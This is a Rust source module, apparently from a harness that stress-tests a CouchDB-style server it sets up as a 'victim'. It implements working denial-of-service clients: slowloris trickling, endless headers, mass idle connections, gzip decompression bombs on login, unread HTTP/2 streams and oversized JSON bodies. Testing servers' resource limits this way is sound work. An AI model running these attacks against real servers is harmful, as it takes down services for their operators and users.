//! The attacks: the requests of hostile clients.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use clap::ValueEnum;
use futures_util::stream;
use http_body_util::combinators::UnsyncBoxBody;
use http_body_util::{BodyExt, Empty, StreamBody};
use hyper::Request;
use hyper::body::Frame;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use settee_client::{Couch, JSON, Server};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::victim::{DATABASE, Victim};
use crate::error::{Error, Result};
use crate::process::raise_descriptor_limit;

/// Pause between two bytes of a trickled body or head.
const TRICKLE_PAUSE: Duration = Duration::from_millis(500);

/// Pause before a client repeats its attempt.
const RETRY_PAUSE: Duration = Duration::from_millis(50);

/// Declared content length of a body that never arrives.
const DECLARED_BYTES: u64 = 256 << 20;

/// Bytes of JSON texts of many small values, at full scale.
const TEXT_BYTES: f64 = (250 << 20) as f64;

/// Number of documents of a large bulk, at full scale.
const BULK_DOCUMENTS: f64 = 500_000.0;

/// Size in bytes of the text of each of its documents. With shorter ones, the body would be refused: its
/// documents would take more memory than bodies may.
const BULK_TEXT_BYTES: usize = 70;

/// Bytes of such a text that are sent at once.
const PIECE_BYTES: usize = 64 << 10;

/// Descriptors of this process besides an attack's.
const DESCRIPTORS_SPARE: u64 = 200;

/// Decompressed bytes of a compressed login, at full scale.
const DECOMPRESSED_BYTES: f64 = (256 << 20) as f64;

/// An attack by a group of hostile clients.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// 64 anonymous logins that declare 256 MiB and trickle.
    DeclaredLogins,
    /// 41 HTTP/2 connections with 100 trickled logins each.
    TrickledStreams,
    /// 8 clients that log in with a name of 256 MiB, compressed.
    CompressedLogins,
    /// 9,000 connections on which nothing is sent.
    IdleConnections,
    /// 2,000 connections whose request's head never ends.
    EndlessHeads,
    /// 64 uploads by the administrator that declare 256 MiB and trickle.
    DeclaredUploads,
    /// 2 bodies with an array of zeros instead of a number, 250 MiB each.
    ManyNumbers,
    /// 2 documents of members with an empty name, 250 MiB each.
    ManyMembers,
    /// 2 lists of database names, 250 MiB each.
    ManyNames,
    /// 2 clients that write 500,000 new documents with each request.
    LargeBulks,
    /// 20 HTTP/2 connections that don't read their 100 responses.
    UnreadStreams,
}

impl Attack {
    /// The name on the command line.
    pub(super) fn name(self) -> String {
        self.to_possible_value().expect("none is hidden").get_name().to_owned()
    }

    /// Number of clients at full scale.
    fn clients(self) -> f64 {
        match self {
            Attack::DeclaredLogins | Attack::DeclaredUploads => 64.0,
            Attack::TrickledStreams => 41.0,
            Attack::CompressedLogins => 8.0,
            Attack::IdleConnections => 9_000.0,
            Attack::EndlessHeads => 2_000.0,
            Attack::ManyNumbers | Attack::ManyMembers | Attack::ManyNames | Attack::LargeBulks => 2.0,
            Attack::UnreadStreams => 20.0,
        }
    }

    /// Starts the attack's clients as tasks that never end.
    pub(super) fn begin(
        self,
        victim: &Victim,
        scale: f64,
        begun: &Begun,
        tasks: &mut JoinSet<()>,
    ) -> Result<()> {
        let count = (self.clients() * scale).ceil() as u64;
        raise_descriptor_limit(count + DESCRIPTORS_SPARE)
            .map_err(|reason| Error::wrong(&self.name(), reason))?;
        let compressed = match self {
            Attack::CompressedLogins => compressed_login((DECOMPRESSED_BYTES * scale) as usize),
            _ => Bytes::new(),
        };
        for _ in 0..count {
            let (victim, begun, compressed) = (victim.clone(), begun.clone(), compressed.clone());
            tasks.spawn(async move {
                loop {
                    // The outcome doesn't matter: the client repeats its attempt.
                    self.attempt(&victim, scale, &begun, &compressed).await.ok();
                    tokio::time::sleep(RETRY_PAUSE).await;
                }
            });
        }
        Ok(())
    }

    /// One attempt of one client, until the server ends it.
    async fn attempt(
        self,
        victim: &Victim,
        scale: f64,
        begun: &Begun,
        compressed: &Bytes,
    ) -> std::io::Result<()> {
        let text_bytes = (TEXT_BYTES * scale) as u64;
        match self {
            Attack::DeclaredLogins => trickle(&victim.anonymous, "POST", "/_session", begun).await,
            Attack::DeclaredUploads => {
                trickle(&victim.admin, "PUT", &format!("/{DATABASE}/never/file"), begun).await
            }
            Attack::TrickledStreams => streams(&victim.anonymous, begun, trickled_login).await,
            Attack::UnreadStreams => streams(&victim.admin, begun, large_listing).await,
            Attack::CompressedLogins => {
                let mut stream = connect(&victim.anonymous, begun).await?;
                let mut request = Vec::new();
                let kind = "application/x-www-form-urlencoded\r\nContent-Encoding: gzip";
                let content = Some((kind, compressed.len()));
                victim.anonymous.render("POST", "/_session", content, &mut request);
                request.extend_from_slice(compressed);
                stream.write_all(&request).await?;
                stream.read(&mut [0; 1024]).await.map(drop)
            }
            Attack::IdleConnections => {
                let mut stream = connect(&victim.anonymous, begun).await?;
                stream.read(&mut [0; 1]).await.map(drop)
            }
            Attack::EndlessHeads => {
                let mut stream = connect(&victim.anonymous, begun).await?;
                stream.write_all(b"GET / HTTP/1.1\r\nX-Never-Ending: ").await?;
                trickle_into(&mut stream).await
            }
            Attack::ManyNumbers => {
                let target = format!("/{DATABASE}/_revs_limit");
                send_text(victim, "PUT", &target, ("[", "0,", "0]"), text_bytes, begun).await
            }
            Attack::ManyMembers => {
                let target = format!("/{DATABASE}/many");
                send_text(victim, "PUT", &target, ("{", "\"\":1,", "\"\":1}"), text_bytes, begun).await
            }
            Attack::LargeBulks => {
                let document = format!("{{\"text\":\"{}\"}}", "x".repeat(BULK_TEXT_BYTES));
                let documents = vec![document.as_str(); (BULK_DOCUMENTS * scale).ceil() as usize];
                let body = format!("{{\"docs\":[{}]}}", documents.join(","));
                let target = format!("/{DATABASE}/_bulk_docs");
                begun.add();
                let request = settee_client::Request::json("POST", &target, body.as_bytes());
                // Read to its end: a bulk whose client goes away is not made whole.
                let reply = Couch::new(victim.admin.clone()).send(request).await;
                reply.map(drop).map_err(std::io::Error::other)
            }
            Attack::ManyNames => {
                let parts = ("{\"keys\":[", "\"a\",", "\"a\"]}");
                send_text(victim, "POST", "/_dbs_info", parts, text_bytes, begun).await
            }
        }
    }
}

/// Counter of the connections, requests or streams that an attack began.
#[derive(Clone, Default)]
pub(super) struct Begun(Arc<AtomicU64>);

impl Begun {
    pub(super) fn count(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }

    fn add(&self) {
        self.0.fetch_add(1, Ordering::Relaxed);
    }
}

async fn connect(server: &Server, begun: &Begun) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect(server.address()).await?;
    begun.add();
    Ok(stream)
}

/// Sends a byte every [`TRICKLE_PAUSE`] until the server responds or closes the connection.
async fn trickle_into(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        stream.write_all(b"x").await?;
        if let Ok(read) = tokio::time::timeout(TRICKLE_PAUSE, stream.read(&mut [0; 1024])).await {
            return read.map(drop);
        }
    }
}

async fn trickle(server: &Server, method: &str, target: &str, begun: &Begun) -> std::io::Result<()> {
    let mut stream = connect(server, begun).await?;
    let mut head = Vec::new();
    let content = Some((JSON, DECLARED_BYTES as usize));
    server.render(method, target, content, &mut head);
    stream.write_all(&head).await?;
    trickle_into(&mut stream).await
}

/// Sends a body of about `bytes` that repeats `middle` between `front` and `end`, and waits for the response.
async fn send_text(
    victim: &Victim,
    method: &str,
    target: &str,
    (front, middle, end): (&str, &str, &str),
    bytes: u64,
    begun: &Begun,
) -> std::io::Result<()> {
    let mut stream = connect(&victim.admin, begun).await?;
    let count = bytes / middle.len() as u64;
    let length = front.len() as u64 + count * middle.len() as u64 + end.len() as u64;
    let mut head = Vec::new();
    let length = Some((JSON, usize::try_from(length).unwrap_or(usize::MAX)));
    victim.admin.render(method, target, length, &mut head);
    stream.write_all(&head).await?;
    stream.write_all(front.as_bytes()).await?;
    let piece_count = (PIECE_BYTES / middle.len()) as u64;
    let piece = middle.repeat(piece_count as usize);
    let mut left = count;
    while left > 0 {
        let next = left.min(piece_count);
        stream.write_all(&piece.as_bytes()[..next as usize * middle.len()]).await?;
        left -= next;
    }
    stream.write_all(end.as_bytes()).await?;
    stream.read(&mut [0; 1024]).await.map(drop)
}

type Content = UnsyncBoxBody<Bytes, std::convert::Infallible>;

/// Opens an HTTP/2 connection and sends 100 requests, without reading the bodies of their responses.
async fn streams(
    server: &Server,
    begun: &Begun,
    request: fn(&Server) -> Request<Content>,
) -> std::io::Result<()> {
    let stream = TcpStream::connect(server.address()).await?;
    let mut builder = http2::Builder::new(TokioExecutor::new());
    // With a window of 0 the server can't send the bodies of its responses and has to keep them.
    builder.initial_stream_window_size(0);
    let handshake = builder.handshake(TokioIo::new(stream)).await;
    let (mut sender, connection) = handshake.map_err(std::io::Error::other)?;
    let mut tasks = JoinSet::new();
    let connection = async move { connection.await.map_err(std::io::Error::other) };
    let requests = async {
        for _ in 0..100 {
            if sender.ready().await.is_err() {
                break;
            }
            begun.add();
            let answer = sender.send_request(request(server));
            tasks.spawn(async move {
                // Keeps the response, unread, as long as the connection lasts.
                let _unread = answer.await;
                std::future::pending::<()>().await;
            });
        }
        std::future::pending::<std::io::Result<()>>().await
    };
    tokio::select! {
        ended = connection => ended,
        ended = requests => ended,
    }
}

fn head(server: &Server, method: &str, target: &str) -> hyper::http::request::Builder {
    let mut builder = Request::builder().method(method).uri(format!("http://{}{target}", server.address()));
    if let Some(authorization) = server.authorization() {
        builder = builder.header("authorization", authorization);
    }
    builder
}

fn trickled_login(server: &Server) -> Request<Content> {
    let bytes = stream::unfold((), |()| async {
        tokio::time::sleep(TRICKLE_PAUSE).await;
        Some((Ok(Frame::data(Bytes::from_static(b"x"))), ()))
    });
    let body = StreamBody::new(bytes).boxed_unsync();
    head(server, "POST", "/_session").body(body).expect("a request")
}

fn large_listing(server: &Server) -> Request<Content> {
    let target = format!("/{DATABASE}/_all_docs?include_docs=true");
    head(server, "GET", &target).body(Empty::new().boxed_unsync()).expect("a request")
}

/// A login with a name of about `name_bytes`, compressed by gzip.
fn compressed_login(name_bytes: usize) -> Bytes {
    use std::io::Write as _;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let piece = [b'x'; PIECE_BYTES];
    let mut write = || {
        encoder.write_all(b"password=x&name=")?;
        for _ in 0..name_bytes.div_ceil(PIECE_BYTES) {
            encoder.write_all(&piece)?;
        }
        encoder.try_finish()
    };
    write().expect("writing to memory");
    encoder.get_ref().clone().into()
}
